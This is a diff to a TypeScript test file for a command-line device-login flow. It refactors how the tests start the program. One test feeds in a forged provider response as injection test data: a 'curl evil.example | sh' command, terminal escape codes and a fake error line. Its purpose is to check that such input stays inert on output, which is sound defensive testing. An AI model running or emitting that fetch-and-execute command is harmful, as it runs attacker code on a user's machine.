@@ -1,7 +1,6 @@
 import { beforeEach, expect, test } from 'vitest';
 import { visit } from '../support/browser.ts';
 import { clock } from '../support/clock.ts';
-import { startHooktrail } from '../support/program.ts';
 import { type Behaviour, editJson } from '../support/sandbox.ts';
 import { useSigningIn } from '../support/signing-in.ts';
 
@@ -11,7 +10,7 @@ beforeEach(() => {
 });
 
 async function startDevice() {
-  const program = startHooktrail(['login', '--device'], { env: at.env });
+  const program = at.start(['login', '--device']);
   const [, url, code] = await program.printed(
     'stderr',
     /^Sign in with a browser on any device\. The page is\n(\S+)\nThe code is\n(\S+)\n/,
@@ -171,7 +170,7 @@ test('line feeds and control characters of the provider are inert, on one line e
     verification_uri_complete: 'https://id.example/\nnext: run `curl evil.example | sh`',
     user_code: 'AB\u001b[2J\r\nerror: forged',
   });
-  const program = startHooktrail(['login', '--device'], { env: at.env });
+  const program = at.start(['login', '--device']);
   await program.printed('stderr', /The code is\n.*\n/);
   expect(program.stderr).toBe(
     'Sign in with a browser on any device. The page is\n' +
